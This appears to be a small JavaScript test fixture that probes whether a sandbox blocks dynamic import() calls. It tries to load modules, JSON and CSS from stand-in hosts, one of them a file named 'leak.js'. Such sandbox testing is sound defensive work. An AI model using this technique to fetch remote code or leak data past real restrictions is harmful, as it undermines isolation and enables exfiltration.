// import() is syntax: no list of names takes it away.
export async function work() {
  attempt(() => import('http://__SINK__/module.js'))
  attempt(() => import('http://__PORTAL__/leak.js'))
  attempt(() => import('http://__SINK__/data.json', { with: { type: 'json' } }))
  attempt(() => import('http://__SINK__/style.css', { with: { type: 'css' } }))
  return settled()
}
